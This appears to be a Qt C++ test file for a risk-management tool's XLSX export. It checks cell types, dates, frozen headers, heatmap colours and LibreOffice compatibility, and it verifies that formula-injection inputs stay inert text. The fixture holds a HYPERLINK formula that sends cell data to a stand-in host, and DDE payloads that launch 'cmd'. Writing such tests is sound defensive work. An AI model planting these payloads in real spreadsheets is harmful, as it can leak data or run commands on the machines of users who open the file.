// tst_xlsxworkbook.cpp — the Excel workbook (export-xlsx), read back as what it is: a zip of XML. Cell
// types (text as shared strings, numbers, dates as serial numbers with a date format), values against the
// document, formula payloads as string cells and never an <f> element, the frozen header row and the
// autofilter, the heatmap colours; and the proof that a spreadsheet program opens it: LibreOffice
// headless converts it to CSV, and a few cells are compared.
#include "export/chartinputs.h"
#include "export/xlsxworkbook.h"
#include "exporttestsupport.h"
#include "model/palette.h"

#include <QDir>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QXmlStreamReader>

using namespace rb::exporting;
using namespace rb::exporting::test;
using rb::model::Portfolio;

namespace {

struct Cell {
    QString type;  // the t attribute: "s" shared string, "inlineStr", "" number
    int style = 0; // the s attribute: index into cellXfs
    QString value; // <v> (for "s" the shared string itself)
    bool formula = false;
};

// "B12" -> (11, 1)
QPair<int, int> position(const QString &ref)
{
    int col = 0, i = 0;
    for (; i < ref.size() && ref[i].isLetter(); ++i) col = col * 26 + (ref[i].unicode() - 'A' + 1);
    return {ref.mid(i).toInt() - 1, col - 1};
}

class Xlsx {
public:
    explicit Xlsx(const QString &path) : m_path(path)
    {
        QXmlStreamReader strings(part(QStringLiteral("xl/sharedStrings.xml")));
        QString current;
        while (!strings.atEnd()) {
            strings.readNext();
            if (strings.isStartElement() && strings.name() == QLatin1String("si"))
                current.clear();
            else if (strings.isStartElement() && strings.name() == QLatin1String("t"))
                current += strings.readElementText();
            else if (strings.isEndElement() && strings.name() == QLatin1String("si"))
                m_strings << current;
        }
        QXmlStreamReader styles(part(QStringLiteral("xl/styles.xml")));
        QString section;
        while (!styles.atEnd()) {
            styles.readNext();
            if (!styles.isStartElement()) continue;
            const auto a = styles.attributes();
            if (styles.name() == QLatin1String("numFmt"))
                m_numFmts.insert(a.value("numFmtId").toInt(), a.value("formatCode").toString());
            else if (styles.name() == QLatin1String("cellXfs") || styles.name() == QLatin1String("fills"))
                section = styles.name().toString();
            else if (styles.name() == QLatin1String("xf") && section == QLatin1String("cellXfs"))
                m_xfs << qMakePair(a.value("numFmtId").toInt(), a.value("fillId").toInt());
            else if (styles.name() == QLatin1String("fill"))
                m_fills << QString();
            else if (styles.name() == QLatin1String("fgColor") && section == QLatin1String("fills"))
                m_fills.last() = a.value("rgb").toString();
        }
        QXmlStreamReader book(part(QStringLiteral("xl/workbook.xml")));
        while (!book.atEnd()) {
            book.readNext();
            if (book.isStartElement() && book.name() == QLatin1String("sheet"))
                m_sheetNames << book.attributes().value("name").toString();
        }
    }

    QByteArray part(const QString &name) const
    {
        QProcess unzip;
        unzip.start(QStringLiteral("unzip"), {QStringLiteral("-p"), m_path, name});
        unzip.waitForFinished(30000);
        return unzip.readAllStandardOutput();
    }
    QStringList sheetNames() const { return m_sheetNames; }
    QByteArray sheetXml(int index) const { return part(QStringLiteral("xl/worksheets/sheet%1.xml").arg(index + 1)); }

    // The cells of sheet `index` (0-based) by (row, column), 0-based.
    QMap<QPair<int, int>, Cell> cells(int index) const
    {
        QMap<QPair<int, int>, Cell> out;
        QXmlStreamReader xml(sheetXml(index));
        QPair<int, int> at;
        while (!xml.atEnd()) {
            xml.readNext();
            if (!xml.isStartElement()) continue;
            if (xml.name() == QLatin1String("c")) {
                at = position(xml.attributes().value("r").toString());
                out[at] = Cell{xml.attributes().value("t").toString(), xml.attributes().value("s").toInt(), {}, false};
            } else if (xml.name() == QLatin1String("v")) {
                Cell &c = out[at];
                c.value = xml.readElementText();
                if (c.type == QLatin1String("s")) c.value = m_strings.value(c.value.toInt());
            } else if (xml.name() == QLatin1String("f")) {
                out[at].formula = true;
            }
        }
        return out;
    }
    QString numberFormat(int style) const { return m_numFmts.value(m_xfs.value(style).first); }
    QString fillColour(int style) const { return m_fills.value(m_xfs.value(style).second); }

private:
    QString m_path;
    QStringList m_strings, m_sheetNames, m_fills;
    QHash<int, QString> m_numFmts;
    QList<QPair<int, int>> m_xfs; // numFmtId, fillId
};

// The column of a header text in row 0, or -1.
int columnOf(const QMap<QPair<int, int>, Cell> &cells, const QString &header)
{
    for (auto it = cells.cbegin(); it != cells.cend(); ++it)
        if (it.key().first == 0 && it->value == header) return it.key().second;
    return -1;
}

QString argb(const QColor &c)
{
    return QStringLiteral("FF%1").arg(c.rgb() & 0xffffff, 6, 16, QLatin1Char('0')).toUpper();
}

const QString kPayload = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
const QString kOwner = QStringLiteral("+cmd|' /C calc'!A0");

} // namespace

class TestXlsxWorkbook : public QObject {
    Q_OBJECT

private slots:
    void initTestCase()
    {
        QVERIFY2(!QStandardPaths::findExecutable(QStringLiteral("unzip")).isEmpty(),
                 "unzip is missing: run scripts/setup.sh");
        m_portfolio = loadPortfolio();
        rb::model::Risk r;
        r.id = QStringLiteral("R-INJECT");
        r.title = kPayload;
        r.owner = kOwner;
        r.cause = QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0");
        r.level = rb::model::RiskLevel::Programme;
        r.probability = 4;
        r.impact = 5;
        r.nextReview = QDate(2019, 3, 1);
        r.note = QStringLiteral("a control character \x0b XML cannot hold"); // the workbook must still open
        m_portfolio.risks << r;
        const WorkbookResult result = renderWorkbook(m_portfolio, QStringLiteral("en"));
        QVERIFY2(result.error.isEmpty(), qPrintable(result.error));
        QVERIFY(result.bytes.startsWith("PK")); // a zip
        QVERIFY(m_dir.isValid());
        m_path = m_dir.filePath(QStringLiteral("mab.xlsx"));
        QFile f(m_path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(result.bytes);
    }

    void sheets()
    {
        const Xlsx x(m_path);
        QCOMPARE(x.sheetNames(),
                 (QStringList{"Risks", "Inherent matrix", "Residual matrix", "Latest assessments", "Posts", "Method"}));
        for (int i = 0; i < 6; ++i)
            QVERIFY2(!x.sheetXml(i).contains("<f>") && !x.sheetXml(i).contains("<f "), "a formula in the workbook");
    }

    void risksAreTypedAndFormulasAreText()
    {
        const Xlsx x(m_path);
        const auto cells = x.cells(0);
        const int title = columnOf(cells, QStringLiteral("Title")), owner = columnOf(cells, QStringLiteral("Owner"));
        const int probability = columnOf(cells, QStringLiteral("Inherent probability"));
        const int exposure = columnOf(cells, QStringLiteral("Inherent exposure")),
                  review = columnOf(cells, QStringLiteral("Next review"));
        QVERIFY(title >= 0 && owner >= 0 && probability >= 0 && exposure >= 0 && review >= 0);
        const int row = int(m_portfolio.risks.size()); // the last risk, below the header
        QCOMPARE(cells.value({row, 0}).value, QStringLiteral("R-INJECT"));
        const Cell t = cells.value({row, title});
        QCOMPARE(t.type, QStringLiteral("s"));
        QCOMPARE(t.value, kPayload); // unchanged, and a string: Excel shows it, never evaluates it
        QVERIFY(!t.formula);
        QCOMPARE(cells.value({row, owner}).type, QStringLiteral("s"));
        QCOMPARE(cells.value({row, owner}).value, kOwner);
        const Cell p = cells.value({row, probability});
        QVERIFY(p.type.isEmpty()); // a number
        QCOMPARE(p.value, QStringLiteral("4"));
        const Cell e = cells.value({row, exposure});
        QCOMPARE(e.value, QStringLiteral("20")); // 4 × 5
        QCOMPARE(x.fillColour(e.style), argb(rb::palette::score(rb::palette::exposureStep(20))));
        const Cell d = cells.value({row, review});
        QVERIFY(d.type.isEmpty());
        QCOMPARE(d.value.toInt(), QDate(1899, 12, 30).daysTo(QDate(2019, 3, 1))); // Excel's serial day
        QVERIFY2(x.numberFormat(d.style).contains(QLatin1String("yyyy")), qPrintable(x.numberFormat(d.style)));
        // Every risk is a row; the enum words are words, not the document's names.
        QCOMPARE(cells.value({1, columnOf(cells, QStringLiteral("Status"))}).value, QStringLiteral("Open"));
    }

    void frozenHeaderAndAutofilter()
    {
        const Xlsx x(m_path);
        for (int sheet : {0, 3, 4}) {
            const QByteArray xml = x.sheetXml(sheet);
            QVERIFY2(QRegularExpression(QStringLiteral("<pane ySplit=\"1\"[^>]*state=\"frozen\""))
                         .match(QString::fromUtf8(xml))
                         .hasMatch(),
                     qPrintable(x.sheetNames()[sheet]));
            QVERIFY2(xml.contains("<autoFilter ref=\"A1:"), qPrintable(x.sheetNames()[sheet]));
            QVERIFY(xml.contains("<col ")); // widths set
        }
        QVERIFY(x.sheetXml(0).contains(
            QStringLiteral("<autoFilter ref=\"A1:W%1\"/>").arg(m_portfolio.risks.size() + 1).toUtf8()));
        for (int sheet : {1, 2, 5}) // the matrices and the method are not tables: nothing frozen
            QVERIFY2(!x.sheetXml(sheet).contains("state=\"frozen\""), qPrintable(x.sheetNames()[sheet]));
    }

    // The inherent matrix counts every open and occurred risk with both scores once, in its cell
    // (probability 5 on the first grid row, impact 1 in column B).
    void matrixCounts()
    {
        const Xlsx x(m_path);
        const auto cells = x.cells(1);
        int expected[6][6] = {};
        for (const auto &r : m_portfolio.risks)
            if (r.status != rb::model::RiskStatus::Closed && r.probability && r.impact)
                ++expected[*r.probability][*r.impact];
        for (int p = 1; p <= 5; ++p)
            for (int i = 1; i <= 5; ++i) {
                const Cell c = cells.value({4 + (5 - p), i});
                QVERIFY(c.type.isEmpty());
                QCOMPARE(c.value.toInt(), expected[p][i]);
                QCOMPARE(x.fillColour(c.style), argb(rb::palette::score(rb::palette::exposureStep(p * i))));
            }
        QVERIFY(cells.value({4 + (5 - 4), 5}).value.toInt() >= 1); // R-INJECT: 4 × 5
    }

    // One row per factor of each post's latest assessment, the score a number on the heatmap's colour.
    void latestAssessments()
    {
        const Xlsx x(m_path);
        const auto cells = x.cells(3);
        int rows = 0;
        for (const auto &p : m_portfolio.posts)
            if (const auto *a = m_portfolio.latestAssessment(p.id)) rows += std::max<int>(1, int(a->scores.size()));
        int last = 0;
        for (auto it = cells.cbegin(); it != cells.cend(); ++it) last = std::max(last, it.key().first);
        QCOMPARE(last, rows);
        const int post = columnOf(cells, QStringLiteral("Post")), score = columnOf(cells, QStringLiteral("Score"));
        const int factor = columnOf(cells, QStringLiteral("Success factor")),
                  date = columnOf(cells, QStringLiteral("Date"));
        QVERIFY(post >= 0 && score >= 0 && factor >= 0 && date >= 0);
        const auto *a = m_portfolio.latestAssessment(cells.value({1, post}).value);
        QVERIFY(a && !a->scores.isEmpty());
        const int s = a->scores.first().second.score;
        QCOMPARE(cells.value({1, score}).value.toInt(), s);
        QCOMPARE(x.fillColour(cells.value({1, score}).style), argb(rb::palette::score(s)));
        QCOMPARE(cells.value({1, date}).value.toInt(), QDate(1899, 12, 30).daysTo(a->date));
        for (const auto &f : m_portfolio.successFactors)
            if (f.id == a->scores.first().first)
                QCOMPARE(cells.value({1, factor}).value, f.nameEn.isEmpty() ? f.nameNl : f.nameEn);
    }

    // Posts: a row each, dates and budgets typed; a critical post has no float, a post with float is not
    // critical (external, level-of-effort and done posts are never critical: analysis/cpm.cpp).
    void postsWithFloat()
    {
        const Xlsx x(m_path);
        const auto cells = x.cells(4);
        const int floatCol = columnOf(cells, QStringLiteral("Total float (days)")),
                  critical = columnOf(cells, QStringLiteral("Critical"));
        const int start = columnOf(cells, QStringLiteral("Start")),
                  invest = columnOf(cells, QStringLiteral("One-off planned (k€)"));
        QVERIFY(floatCol >= 0 && critical >= 0 && start >= 0 && invest >= 0);
        int criticalPosts = 0;
        for (int r = 1; r <= m_portfolio.posts.size(); ++r) {
            const rb::model::Post &p = m_portfolio.posts[r - 1];
            QCOMPARE(cells.value({r, 0}).value, p.id);
            if (p.start.isValid()) QCOMPARE(cells.value({r, start}).value.toInt(), QDate(1899, 12, 30).daysTo(p.start));
            if (p.budget) QCOMPARE(cells.value({r, invest}).value.toDouble(), p.budget->oneOff.planned);
            if (cells.value({r, critical}).value == QLatin1String("yes")) {
                ++criticalPosts;
                QVERIFY(cells.value({r, floatCol}).value.toInt() <= 0);
            } else if (cells.value({r, floatCol}).value.toInt() > 0) {
                QCOMPARE(cells.value({r, critical}).value, QStringLiteral("no")); // float: not critical
            }
        }
        QVERIFY(criticalPosts > 0);
    }

    // A spreadsheet program opens it: LibreOffice converts every sheet to CSV (its own profile, a
    // timeout), and the cells read as written — the Dutch headers of the command's --lang nl too.
    void opensInLibreOffice()
    {
        const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
        QVERIFY2(!soffice.isEmpty(), "soffice is missing: run scripts/setup.sh (libreoffice-calc-nogui)");
        QTemporaryDir out;
        QProcess riskboard;
        const QString dutch = out.filePath(QStringLiteral("nl.xlsx"));
        riskboard.start(QStringLiteral(RISKBOARD_BINARY_DIR "/riskboard"),
                        {QStringLiteral("export-xlsx"), portfolioPath(), QStringLiteral("-o"), dutch,
                         QStringLiteral("--lang"), QStringLiteral("nl")});
        QVERIFY(riskboard.waitForFinished(60000));
        QCOMPARE(riskboard.exitCode(), 0);
        QProcess lo;
        lo.start(QStringLiteral("timeout"),
                 {QStringLiteral("120"), soffice,
                  QStringLiteral("-env:UserInstallation=file://%1/profile").arg(out.path()),
                  QStringLiteral("--headless"), QStringLiteral("--convert-to"),
                  // ';' (59) between fields, '"' (34) quotes, UTF-8 (76), every sheet (-1) to its own file
                  QStringLiteral("csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true,false,false,false,-1"),
                  QStringLiteral("--outdir"), out.path(), m_path, dutch});
        QVERIFY(lo.waitForFinished(180000));
        QVERIFY2(lo.exitCode() == 0, lo.readAllStandardError().constData());
        const QString risks = QString::fromUtf8(readAll(out.filePath(QStringLiteral("mab-Risks.csv"))));
        QVERIFY2(risks.startsWith(QLatin1String("Risk;Title;Level;")), qPrintable(risks.left(200)));
        QVERIFY(risks.contains(
            QStringLiteral("R-INJECT;\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\";Programme")));
        QVERIFY(risks.contains(QStringLiteral("2019-03-01"))); // the date, formatted as a date
        const QString posts = QString::fromUtf8(readAll(out.filePath(QStringLiteral("mab-Posts.csv"))));
        const QString firstPost = m_portfolio.posts.first().id;
        QVERIFY2(posts.contains(QLatin1Char('\n') + firstPost + QLatin1Char(';')), qPrintable(posts.left(300)));
        // The Dutch risk sheet (its file is named after the sheet's Dutch name): the risk form's words.
        bool dutchRisks = false;
        for (const QString &file : QDir(out.path()).entryList({QStringLiteral("nl-*.csv")}))
            dutchRisks |= QString::fromUtf8(readAll(out.filePath(file)))
                              .startsWith(QLatin1String("Risico;Titel;Niveau;Posten;Succesfactor;"));
        QVERIFY(dutchRisks);
    }

    // The command's exit codes: 1 usage, 2 invalid document (located, nothing written), 3 cannot write;
    // an existing OUT is left as it was when the export fails.
    void commandExitCodes()
    {
        QTemporaryDir dir;
        const QString out = dir.filePath(QStringLiteral("out.xlsx"));
        auto run = [](const QStringList &args) {
            QProcess p;
            p.start(QStringLiteral(RISKBOARD_BINARY_DIR "/riskboard"),
                    QStringList{QStringLiteral("export-xlsx")} + args);
            p.waitForFinished(60000);
            return qMakePair(p.exitCode(), QString::fromUtf8(p.readAllStandardError()));
        };
        QCOMPARE(run({portfolioPath()}).first, 1);
        QCOMPARE(
            run({portfolioPath(), QStringLiteral("-o"), out, QStringLiteral("--lang"), QStringLiteral("fr")}).first, 1);
        QVERIFY(!QFile::exists(out));
        QFile old(out);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("old");
        old.close();
        const QString bad = dir.filePath(QStringLiteral("bad.json"));
        QFile f(bad);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("{\n  \"schemaVersion\": 1,\n  \"programme\": {\"name\": \"x\"},\n  \"posts\": [{\"id\": \"A\", "
                "\"title\": \"a\", \"theme\": 9, \"kind\": \"project\"}]\n}\n");
        f.close();
        const auto invalid = run({bad, QStringLiteral("-o"), out});
        QCOMPARE(invalid.first, 2);
        QVERIFY2(QRegularExpression(QStringLiteral("bad\\.json:\\d+:\\d+: error:")).match(invalid.second).hasMatch(),
                 qPrintable(invalid.second));
        QCOMPARE(readAll(out), QByteArray("old"));
        QCOMPARE(run({portfolioPath(), QStringLiteral("-o"), QStringLiteral("/nonexistent-dir/out.xlsx")}).first, 3);
        QCOMPARE(run({portfolioPath(), QStringLiteral("-o"), out}).first, 0);
        QVERIFY(readAll(out).startsWith("PK"));
    }

private:
    Portfolio m_portfolio;
    QTemporaryDir m_dir;
    QString m_path;
};

QTEST_GUILESS_MAIN(TestXlsxWorkbook)
#include "tst_xlsxworkbook.moc"
